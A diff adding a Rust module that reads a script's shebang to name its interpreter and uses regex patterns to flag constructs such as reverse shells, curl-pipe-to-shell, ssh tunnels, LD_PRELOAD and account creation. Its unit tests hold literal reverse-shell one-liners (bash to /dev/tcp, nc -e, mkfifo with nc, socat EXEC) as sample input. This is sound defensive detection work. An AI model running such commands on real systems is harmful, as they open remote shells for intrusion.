@@ -1,0 +1,141 @@
+//! Scripts: which interpreter runs them, and constructs that open ways in or out, whatever the language.
+use regex::bytes::Regex;
+use std::sync::LazyLock;
+
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Script {
+    /// What stands behind `#!`.
+    pub interpreter: String,
+    /// Name of the interpreter without folder and version: sh, bash, python, perl, lua, node …
+    pub language: String,
+    /// Names of the telling constructs outside comment lines, sorted.
+    pub constructs: Vec<String>,
+}
+
+/// Longer scripts are looked at up to here; a shell archive carries its payload behind.
+const LIMIT: usize = 8 << 20;
+
+/// Name and pattern of each construct. They say what a script can do, not that it is wrong to.
+const CONSTRUCTS: &[(&str, &str)] = &[
+    ("/dev/tcp/", r"/dev/(?:tcp|udp)/"),
+    ("AT command", r#"['"\s]AT(?:\+C[A-Z]{2,}|D[T*#]|\$Q[A-Z]|\^[A-Z]{4,})"#),
+    ("authorized_keys", r"\bauthorized_keys\b"),
+    ("base64 -d | sh", r"\bbase64\s+(?:-\w+\s+)*(?:-d|-D|--decode)\b[^\n]*\|\s*(?:ba|da|z|k)?sh\b"),
+    ("bash -i", r"\b(?:ba|da|z|k)?sh\s+-i\b"),
+    ("crontab", r"\bcrontab\s+(?:-u\s+\S+\s+)?(?:-|/|<)"),
+    ("curl | sh", r"\b(?:curl|wget)\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|da|z|k)?sh\b"),
+    ("insmod", r"\b(?:insmod|modprobe)\s+[-\w./$]"),
+    ("ip_forward", r"\bip_forward\b"),
+    ("iptables nat", r"\biptables\b[^\n]*(?:MASQUERADE|DNAT|SNAT|REDIRECT)"),
+    ("ld.so.preload", r"/etc/ld\.so\.preload|\bLD_PRELOAD="),
+    ("mkfifo", r"\bmkfifo\b|\bmknod\b[^\n]*\sp\b"),
+    ("modem device", r"/dev/(?:ttyUSB|ttyACM|ttyHS|cdc-wdm|wwan)\w*"),
+    ("modem manager", r"\b(?:mmcli|qmicli|mbimcli|qmi-network|wvdial|sakis3g|usb_modeswitch|comgt|gcom)\b"),
+    ("nc -e", r"\b(?:nc|ncat|netcat)(?:\.\w+)?\b[^\n|;&]*\s-\w*[ec]\b"),
+    ("nc -l", r"\b(?:nc|ncat|netcat)(?:\.\w+)?\b[^\n|;&]*\s-\w*l"),
+    ("new_id", r"/new_id\b"),
+    ("openssl s_client", r"\bopenssl\s+s_client\b"),
+    ("pppd", r"\bpppd\s+\S|\b(?:pon|poff)\s+\w"),
+    ("pty.spawn", r"\bpty\.spawn\b|\bforkpty\b|\bIO::Pty\b|\bopenpty\b"),
+    ("socat exec", r"(?i)\bsocat\b[^\n]*\b(?:exec|system):"),
+    ("socat", r"\bsocat\s+\S"),
+    (
+        "socket",
+        r"\bsocket\.socket\b|\bIO::Socket\b|\bfsockopen\s*\(|\bTCPSocket\b|\buse\s+Socket\b|\bnet\.(?:connect|createServer)\b|require\W+socket\b",
+    ),
+    ("ssh -R", r"\b(?:ssh|autossh|dbclient|plink)\b[^\n|;&]*\s-\w*R[\s\d:*]|\bRemoteForward\b"),
+    ("ssh -w", r"\bssh\b[^\n|;&]*\s-\w*w\s*(?:\d|any)|\bTunnel\s+(?:yes|point-to-point|ethernet)\b"),
+    ("ssh -D", r"\b(?:ssh|autossh|dbclient|plink)\b[^\n|;&]*\s-\w*D[\s\d:*]|\bDynamicForward\b"),
+    ("telnetd", r"\b(?:telnetd|dropbear|sshd)\s+-"),
+    ("useradd", r"\b(?:useradd|adduser|usermod|chpasswd)\s"),
+];
+
+static PATTERNS: LazyLock<Vec<(&str, Regex)>> =
+    LazyLock::new(|| CONSTRUCTS.iter().filter_map(|(name, p)| Some((*name, Regex::new(p).ok()?))).collect());
+
+/// `None` if the content does not begin with `#!`.
+pub fn parse(bytes: &[u8]) -> Option<Script> {
+    let rest = bytes.strip_prefix(b"#!")?;
+    // Linux reads 256 bytes of the line at most.
+    let line = rest.get(..256).unwrap_or(rest);
+    let line = line.split(|b| matches!(b, b'\n' | 0)).next().unwrap_or_default();
+    let interpreter = String::from_utf8_lossy(line).trim().to_owned();
+    Some(Script { language: language(&interpreter), constructs: constructs(bytes), interpreter })
+}
+
+fn language(interpreter: &str) -> String {
+    let mut words = interpreter.split_whitespace();
+    let base = |w: &str| w.rsplit('/').next().unwrap_or_default().to_owned();
+    let mut name = words.next().map(base).unwrap_or_default();
+    if name == "env" {
+        // `env -S VAR=x python3 -u`: the first word that is neither option nor assignment.
+        name = words.find(|w| !w.starts_with('-') && !w.contains('=')).map(base).unwrap_or(name);
+    }
+    if name == "busybox" {
+        name = words.next().map_or(name, base);
+    }
+    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-').to_owned()
+}
+
+/// Names of the telling constructs that stand outside comment lines, sorted.
+pub fn constructs(bytes: &[u8]) -> Vec<String> {
+    let text = bytes.get(..LIMIT).unwrap_or(bytes);
+    let mut found: Vec<String> = PATTERNS
+        .iter()
+        .filter(|(_, pattern)| pattern.find_iter(text).any(|hit| !in_comment(text, hit.start())))
+        .map(|(name, _)| (*name).to_owned())
+        .collect();
+    found.sort();
+    found
+}
+
+fn in_comment(text: &[u8], at: usize) -> bool {
+    let before = text.get(..at).unwrap_or_default();
+    let start = memchr::memrchr(b'\n', before).map_or(0, |n| n.saturating_add(1));
+    before.get(start..).unwrap_or_default().trim_ascii_start().starts_with(b"#")
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+
+    #[test]
+    fn every_pattern_compiles() {
+        assert_eq!(PATTERNS.len(), CONSTRUCTS.len());
+    }
+
+    #[test]
+    fn names_the_interpreter() {
+        for (line, language) in [
+            ("#!/bin/sh\n", "sh"),
+            ("#! /usr/bin/env -S python3.11 -u\nimport os", "python"),
+            ("#!/bin/busybox ash", "ash"),
+            ("#!/usr/bin/env node", "node"),
+            ("#!/usr/bin/perl -w\n", "perl"),
+            ("#!/usr/bin/lua5.1\n", "lua"),
+            ("#!\n", ""),
+        ] {
+            assert_eq!(parse(line.as_bytes()).unwrap().language, language, "{line}");
+        }
+        assert_eq!(parse(b"echo"), None);
+    }
+
+    #[test]
+    fn names_constructs_outside_comments() {
+        for (line, expected) in [
+            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", vec!["/dev/tcp/", "bash -i"]),
+            ("autossh -M 0 -N -R 2222:localhost:22 u@h", vec!["ssh -R"]),
+            ("ssh -fNR2222:localhost:22 h", vec!["ssh -R"]),
+            ("mkfifo /tmp/f; nc -l 99 </tmp/f | sh >/tmp/f", vec!["mkfifo", "nc -l"]),
+            ("nc 10.1.1.1 80 -e /bin/sh", vec!["nc -e"]),
+            ("socat TCP:1.2.3.4:5 EXEC:/bin/sh,pty", vec!["socat", "socat exec"]),
+            ("python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", vec!["pty.spawn"]),
+            ("echo 'AT+CGDCONT=1' > /dev/ttyUSB2", vec!["AT command", "modem device"]),
+            ("  # nc -e /bin/sh, mkfifo", vec![]),
+            ("echo synchronous; scp -R x y; hash -i", vec![]),
+        ] {
+            assert_eq!(constructs(format!("true\n{line}\n").as_bytes()), expected, "{line}");
+        }
+    }
+}
